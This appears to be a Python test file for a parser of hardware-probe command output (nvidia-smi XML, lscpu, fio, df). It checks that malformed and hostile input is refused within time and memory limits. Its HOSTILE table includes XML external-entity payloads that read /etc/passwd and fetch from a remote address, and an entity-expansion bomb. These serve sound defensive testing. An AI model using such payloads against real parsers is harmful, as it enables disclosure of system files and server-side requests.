"""Hostile and odd output: refused or read, in bounded time and memory; never any other error."""

import json
import random
import time
import tracemalloc
from contextlib import suppress
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import strategies as st

from assessments.probes import COMMANDS, LARGEST_OUTPUT, OutputError, Reading, combine, read_output
from assessments.probes.read import NVIDIA_XML
from tests.assessments.probes.saved import ALL, REFUSED, saved
from tests.effort import examples

SECONDS = 3.0
BYTES = 150_000_000
FEW = examples(25, suppress_health_check=[HealthCheck.too_slow])
N = 1_900_000

HOSTILE = {
    "entity bomb": b'<!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><nvidia_smi_log>&b;</nvidia_smi_log>',
    "file entity": b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><nvidia_smi_log>&a;</nvidia_smi_log>',
    "parameter entity": b'<!DOCTYPE l [<!ENTITY % a SYSTEM "http://192.0.2.1/x">%a;]><nvidia_smi_log/>',
    "deep XML": b"<nvidia_smi_log>" + b"<a>" * 600_000,
    "many attributes": b"<nvidia_smi_log " + b" ".join(b'a%d="1"' % n for n in range(150_000)) + b">",
    "default attributes": b'<!DOCTYPE l [<!ATTLIST x a CDATA "'
    + b"A" * 900_000
    + b'">]><nvidia_smi_log>'
    + b"<x/>" * 200_000,
    "attribute declarations": b"<!DOCTYPE l [<!ATTLIST x "
    + b" ".join(b'a%d CDATA "1"' % n for n in range(60_000))
    + b">]><nvidia_smi_log>"
    + b"<x/>" * 100,
    "zero in an escape": b'{"kind":"Node","metadata":{"name":"a\\u0000b"},"status":{"capacity":{"cpu":"4"}}}',
    "half a character in an escape": b'{"lscpu":[{"field":"CPU(s):","data":"4"},{"field":"\\ud800","data":"x"}]}',
    "unclosed comment": b"<nvidia_smi_log><!--" + b"-" * N,
    "endless name": b"<nvidia_smi_log><gpu><product_name>" + b"a" * N,
    "deep objects": b'{"a":' * 300_000,
    "deep lists": b'{"items":' + b"[" * N,
    "escaped quotes": b'{"' + b'\\"' * (N // 2),
    "open strings": b"{" + b'"a' * (N // 2),
    "wide list": b'{"items":[' + b",".join([b"{}"] * 600_000) + b"]}",
    "endless number": b'{"fio version":' + b"1" * N + b"}",
    "no number": b'{"fio version":1,"jobs":[{"read":{"bw_bytes":NaN}}]}',
    "infinite number": b'{"fio version":1,"jobs":[{"read":{"bw_bytes":1e999}}]}',
    "negative number": b'{"fio version":1,"jobs":[{"read":{"bw_bytes":-5}}]}',
    "huge quantity": b'{"items":[{"kind":"Node","status":{"capacity":{"cpu":"9e99"}}}]}',
    "spaces": b" " * N + b"{",
    "header of free": b"  total" + b" " * N,
    "lines": b"\n" * N,
    "too large": b"CPU(s): 1\n" * 300_000,
    "zero bytes": b"CPU(s): 3\x00",
    "only zero bytes": b"\x00" * 1000,
    "half a UTF-16 character": "CPU(s): 3".encode("utf-16") + b"\x00",
    "long df row": b"Filesystem 1K-blocks Used Available Use% Mounted on\n" + b"a " * 900_000,
    "half a df row": b"Filesystem Type 1B-blocks Used Available Use% Mounted on\n/dev/sda1",
    "many df rows": b"Filesystem 1K-blocks Used Available Use% Mounted on\n" + b"a 1 1 1 1 /x\n" * 50_000,
    "many ports": b"CA 'a'\n" + b"Port 1:\n" * 50_000,
    "many GPUs": b"| NVIDIA-SMI \n" + b"| 0 x On | | |\n" * 50_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_output_is_refused_quickly_and_in_little_memory(name: str) -> None:
    tracemalloc.start()
    began = time.process_time()
    with pytest.raises(OutputError):
        read_output(HOSTILE[name])
    assert time.process_time() - began < SECONDS
    assert tracemalloc.get_traced_memory()[1] < BYTES
    tracemalloc.stop()


def test_an_output_may_be_as_large_as_the_limit() -> None:
    head = saved("lscpu-epyc-7451.txt")
    assert read_output(head + b"x" * (LARGEST_OUTPUT - len(head))).findings[0].amount == 48


@pytest.mark.parametrize(
    "encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1"]
)
def test_the_encoding_does_not_matter(encoding: str) -> None:
    text = saved("lscpu-epyc-7451.txt").decode() + ("\N{DEGREE SIGN}" if encoding == "latin-1" else "")
    for line_end in ("\n", "\r\n", "\r"):
        assert read_output(text.replace("\n", line_end).encode(encoding)).findings[0].amount == 48


def test_an_xml_declaration_of_another_encoding_is_not_believed() -> None:
    text = saved("nvidia-smi-a100-mig.xml").decode().replace("UTF-8", "UTF-16")
    assert read_output(text.encode()).command == NVIDIA_XML


def test_lines_of_a_shell_around_an_output_and_colours_do_no_harm() -> None:
    text = (
        "user@host:~$ fio job\nnote: both iodepth\n"
        + saved("fio-random-mix.json").decode()
        + "\nuser@host:~$ "
    )
    assert read_output(text).findings == read_output(saved("fio-random-mix.json")).findings
    text = f"\x1b[1;32muser\x1b[0m$ free -b\n{saved('free-bytes.txt').decode()}"
    assert read_output(text).findings[0].amount == 25_276_514_304


def check(saved_output: str | bytes, command: str | None = None) -> None:
    """Read, and combine what was read; nothing but a refusal may be raised."""
    with suppress(OutputError):
        reading = read_output(saved_output, command)
        assert all(0 <= found.amount <= 1e24 for found in reading.findings)
        combine([reading, Reading(reading.command, "other", reading.findings)])


@pytest.mark.parametrize("name", ALL)
@FEW
@given(data=st.data())
def test_a_damaged_output_is_read_or_refused(name: str, data: st.DataObject) -> None:
    whole = saved(name)
    seed = data.draw(st.integers(0, 2**32))
    check(damaged(whole, random.Random(seed)))  # noqa: S311 -- damage, not secrets


def damaged(whole: bytes, chance: random.Random) -> bytes:
    """Bytes cut, doubled, exchanged, or given other numbers."""
    out = bytearray(whole)
    for _ in range(chance.randint(1, 8)):
        at = chance.randrange(len(out) + 1)
        end = min(len(out), at + chance.randint(0, 60))
        kind = chance.randrange(4)
        if kind == 0:
            del out[at:end]
        elif kind == 1:
            out[at:at] = out[at:end] * chance.randint(1, 4)
        elif kind == 2:
            out[at:end] = chance.randbytes(end - at)
        else:
            out[at:end] = chance.choice(
                [b"-1", b"9" * 30, b"null", b"[]", b"{}", b'"', b"1e400", b"NaN", b"|", b":"]
            )
    return bytes(out)


@pytest.mark.parametrize("command", [None, *COMMANDS])
@FEW
@given(text=st.one_of(st.text(max_size=400), st.binary(max_size=400)))
def test_any_text_is_read_or_refused(command: str | None, text: str | bytes) -> None:
    check(text, command)


KEY_NAMES = [
    *("card0", "items", "kind", "metadata", "labels", "name"),
    *("status", "capacity", "cpu", "memory", "nvidia.com/gpu", "amd.com/gpu"),
    *("jobs", "read", "bw_bytes", "bw", "groupid", "error"),
    *("start", "end", "sum_received", "sum", "bits_per_second", "connected"),
    *("local_host", "remote_host", "lscpu", "field", "data", "children"),
    *(
        "client_stats",
        "timestamp",
        "job_runtime",
        "nvidia.com/gpu.product",
        "nvidia.com/gpu.memory",
        "fio version",
    ),
]
KEYS = st.sampled_from(KEY_NAMES)
LEAVES = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.text(max_size=12),
    st.sampled_from(["Node", "8", "64Gi"]),
)
TREES: st.SearchStrategy[Any] = st.recursive(
    LEAVES,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(KEYS, inner, max_size=6),
    max_leaves=30,
)


@pytest.mark.parametrize("command", [None, *COMMANDS])
@FEW
@given(tree=st.dictionaries(KEYS, TREES, max_size=6))
def test_any_json_is_read_or_refused(command: str | None, tree: dict[str, Any]) -> None:
    check(json.dumps(tree), command)


TAGS = st.sampled_from(["nvidia_smi_log", "gpu", "product_name", "fb_memory_usage", "total", "mig_mode", "x"])


@FEW
@given(parts=st.lists(st.tuples(TAGS, st.booleans(), st.text(max_size=8)), max_size=30))
def test_any_xml_is_read_or_refused(parts: list[tuple[str, bool, str]]) -> None:
    body = "".join(f"<{'' if opens else '/'}{tag}>{text}" for tag, opens, text in parts)
    check(f"<nvidia_smi_log>{body}</nvidia_smi_log>", NVIDIA_XML)


def test_the_refused_ones_are_the_only_saved_outputs_that_are_refused() -> None:
    assert {name for name in ALL if is_refused(name)} == REFUSED


def is_refused(name: str) -> bool:
    """Whether a saved output is refused."""
    try:
        read_output(saved(name))
    except OutputError:
        return True
    return False
